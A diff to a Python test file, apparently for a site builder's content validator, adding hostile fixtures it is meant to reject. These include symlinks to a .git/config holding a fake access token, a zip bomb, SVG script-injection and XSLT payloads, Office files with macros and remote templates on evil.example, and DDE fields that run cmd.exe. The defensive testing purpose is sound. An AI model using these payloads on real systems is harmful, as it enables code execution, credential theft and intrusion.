@@ -26,6 +26,7 @@ from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 
+from . import payloads
 from .conftest import BASE, FIXTURES, ROOT
 
 ERRORS = FIXTURES / "errors"
@@ -224,6 +225,48 @@ def _symlinked_page_file(project: Path) -> None:
     (project / "pages" / "khoa.txt").symlink_to(target)
 
 
+def _git_secret(project: Path) -> Path:
+    """The project's ``.git/config``, holding a CI checkout's access token."""
+    config = project / ".git" / "config"
+    config.parent.mkdir(exist_ok=True)
+    config.write_text("[http]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hwX2JpbWF0\n")
+    return config
+
+
+def _symlinked_git_config(project: Path) -> None:
+    """Links that stay inside the project but lead to its secrets: straight, through another link, as a folder."""
+    _git_secret(project)
+    pages = project / "pages"
+    (pages / "anh").mkdir(parents=True)
+    (pages / "cau-hinh.txt").symlink_to("../.git/config")
+    (pages / "anh" / "ban-do.txt").symlink_to("../cau-hinh.txt")  # a link to a link
+    (pages / "kho").symlink_to("../.git")  # a folder
+
+
+def _symlinked_form_secret(project: Path) -> None:
+    _git_secret(project)
+    (project / "forms" / "CT32.yaml").write_text("id: CT32\ntitle: Tờ khai\nfile: CT32.pdf\n", encoding="utf-8")
+    (project / "forms" / "CT32.pdf").symlink_to("../.git/config")
+    (project / "procedures" / "cau-hinh.yaml").symlink_to("../.git/config")
+
+
+def _symlinked_hidden_file(project: Path) -> None:
+    """A link inside pages/ to a file of a hidden folder there (what a tool's cache or a checkout might hold)."""
+    hidden = project / "pages" / ".cache"
+    hidden.mkdir(parents=True)
+    (hidden / "token.txt").write_text("ghp_bimat\n", encoding="utf-8")
+    (project / "pages" / "token.txt").symlink_to(".cache/token.txt")
+
+
+def _file_over_the_cap(project: Path) -> None:
+    config = project / "mkdocs.yml"
+    text = config.read_text(encoding="utf-8").replace("    featured:", "    files: {max_mb: 1}\n    featured:")
+    config.write_text(text, encoding="utf-8")
+    image = project / "pages" / "anh" / "ban-do.png"
+    image.parent.mkdir(parents=True)
+    image.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * (3 * 2**20))
+
+
 def _named_pipe(project: Path) -> None:
     os.mkfifo(project / "procedures" / "ong-dan.yaml")
 
@@ -262,6 +305,25 @@ _SVG = (
     'onload="alert(1)"><script>alert(document.domain)</script><a xlink:href="javascript:alert(2)">'
     '<rect width="10" height="10"/></a><foreignObject><p>x</p></foreignObject></svg>'
 )
+# The XSLT attack: an image that names a second one as its stylesheet; the second, a stylesheet in an image's
+# clothes (a literal result element), writes a <script>.
+_SVG_XSLT: dict[str, str | bytes] = {
+    "pages/anh/so-do.svg": '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="ve.svg"?>'
+    '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
+    "pages/anh/ve.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
+    'xsl:version="1.0"><xsl:element name="script">alert(document.domain)</xsl:element></svg>',
+    "pages/anh/bieu-do.svg": '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">\n'
+    '<style>@import url("https://evil.example/x.css");</style>\n</svg>',
+}
+_SVG_REFERENCES: dict[str, str | bytes] = {
+    "pages/anh/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
+    '<use xlink:href="so-do.svg#a"/>\n<use href="data:image/svg+xml,%3Csvg onload=alert(1)/%3E#x"/>\n'
+    '<image href="https://evil.example/pixel.png"/>\n<a href="#x"><set attributeName="href" '
+    'to="javascript:alert(1)"/></a>\n<rect fill="url(https://evil.example/p#g)"/>\n</svg>',
+    "pages/anh/so-do.svg": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div '
+    'xmlns="http://www.w3.org/1999/xhtml"><iframe src="/quan-tri/"/></div></foreignObject></svg>',
+    "pages/anh/trang.svg": "<html><body><script>alert(1)</script></body></html>",
+}
 _NESTED = "".join(f"{'  ' * i}- mục {i + 1}\n" for i in range(10))
 
 
@@ -308,6 +370,41 @@ CONTENT_CASES: list[tuple[str, dict[str, str | bytes]]] = [
                                          "  - {type: text, id: ho_ten, label: Họ và tên}\n"}),
     ("yaml-upper-case", {"procedures/dang-ky-lai.YAML": _record_with("1.004195"),
                          "forms/CT02.Yaml": "id: CT02\ntitle: Tờ khai\n"}),
+    ("page-svg-xslt", _SVG_XSLT),
+    ("page-svg-references", _SVG_REFERENCES),
+    ("page-file-disguised", {"pages/tai-lieu/huong-dan.pdf": "<html><script>alert(1)</script></html>",
+                             "pages/tai-lieu/mau.docx": b"MZ\x90\0" + b"\0" * 60,
+                             "pages/anh/logo.png": "<svg onload=alert(1)>", "pages/anh/anh.webp": payloads.pdf(),
+                             "pages/tai-lieu/danh-sach.csv": "Họ tên\0\n",
+                             "pages/tai-lieu/ghi-chu.txt": b"\xff\xfeH\0"}),
+    ("page-office-documents", {"pages/tai-lieu/mau.docx": payloads.docx(remote_template="https://evil.example/t.dotm"),
+                               "pages/tai-lieu/bang.xlsx": payloads.xlsx(
+                                   external_workbook="file:///\\\\10.0.0.1\\chia-se\\a.xlsx"),
+                               "pages/tai-lieu/mau-cu.doc": payloads.doc(macros=True),
+                               "pages/tai-lieu/bang-cu.xls": payloads.xls(macros=True),
+                               "pages/tai-lieu/to-khai.odt": payloads.odt(macro=True),
+                               "pages/tai-lieu/ban-ve.odt": payloads.odt(linked="file:///C:/ban-ve.png")}),
+    ("page-file-names", {"pages/tai-lieu/mau #1?.pdf": payloads.pdf(),
+                         "pages/tai-lieu/ảnh%20.png": b"\x89PNG\r\n\x1a\n",
+                         "pages/tai lieu/-mau.txt": "Tờ khai\n", "pages/tai-lieu/mau  cu.txt": "Tờ khai\n"}),
+    ("form-file-macros", {"forms/CT40.yaml": "id: CT40\ntitle: Tờ khai có macro\nfile: CT40.docx\n",
+                          "forms/CT40.docx": payloads.docx(macros=True)}),
+    ("form-file-doctype", {"forms/CT41.yaml": "id: CT41\ntitle: Tờ khai có DOCTYPE\nfile: CT41.docx\n",
+                           "forms/CT41.docx": payloads.docx(doctype=True)}),
+    ("form-file-ole-object", {"forms/CT42.yaml": "id: CT42\ntitle: Tờ khai có đối tượng OLE\nfile: CT42.docx\n",
+                              "forms/CT42.docx": payloads.docx(ole_object=True),
+                              "forms/CT43.yaml": "id: CT43\ntitle: Tờ khai cũ có đối tượng OLE\nfile: CT43.doc\n",
+                              "forms/CT43.doc": payloads.doc(ole_object=True)}),
+    ("form-file-dde", {"forms/CT44.yaml": "id: CT44\ntitle: Tờ khai có trường DDE\nfile: CT44.docx\n",
+                       "forms/CT44.docx": payloads.docx(field='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
+                       "forms/CT45.yaml": "id: CT45\ntitle: Bảng có công thức DDE\nfile: CT45.xlsx\n",
+                       "forms/CT45.xlsx": payloads.xlsx(formula="cmd|' /C calc'!A0"),
+                       "forms/CT46.yaml": "id: CT46\ntitle: Tờ khai chèn tệp\nfile: CT46.docx\n",
+                       "forms/CT46.docx": payloads.docx(field='INCLUDETEXT "\\\\\\\\10.0.0.1\\\\a.docx"')}),
+    ("form-file-name", {"forms/CT47.yaml": 'id: CT47\ntitle: Tờ khai\nfile: "mau #1?.pdf"\n',
+                        "forms/mau #1?.pdf": payloads.pdf()}),
+    ("form-file-damaged", {"forms/CT48.yaml": "id: CT48\ntitle: Tờ khai\nfile: CT48.pdf\n",
+                           "forms/CT48.pdf": b"%PDF-1.7\n% only a header\n"}),
     ("markdown-too-deep", {"procedures/dang-ky-tam-tru.yaml": _record_code("1.004194").replace(
         "steps:\n", "steps:\n  - |\n" + "".join(f"    {line}\n" for line in _NESTED.splitlines()), 1)}),
 ]  # fmt: skip
@@ -326,6 +423,23 @@ def made_cases() -> list[Case]:
         case("symlinked-form-file", _symlinked_form_file, ("forms/CT30.yaml",)),
         case("symlinked-system-file", _symlinked_system_file, ("forms/CT31.yaml",)),
         case("symlinked-page-file", _symlinked_page_file, ("pages/khoa.txt",), command="build"),
+        case(
+            "symlinked-git-config", _symlinked_git_config, ("pages/cau-hinh.txt", "pages/anh/ban-do.txt", "pages/kho")
+        ),
+        case("symlinked-form-secret", _symlinked_form_secret, ("forms/CT32.yaml", "procedures/cau-hinh.yaml")),
+        case("symlinked-hidden-file", _symlinked_hidden_file, ("pages/token.txt", "pages/.cache/token.txt")),
+        case("file-over-the-cap", _file_over_the_cap, ("pages/anh/ban-do.png",)),
+        case(
+            "zip-bomb",
+            _files(
+                {
+                    "forms/CT49.yaml": "id: CT49\ntitle: Tờ khai\nfile: CT49.docx\n",
+                    "forms/CT49.docx": payloads.zip_bomb(),
+                }
+            ),
+            ("forms/CT49.yaml",),
+            heavy=True,
+        ),
         case("named-pipe", _named_pipe, ("procedures/ong-dan.yaml",), heavy=True),
         case("hostile-settings", _hostile_settings, ("mkdocs.yml",)),
         *(case(name, _files(files), _named(files)) for name, files in CONTENT_CASES),
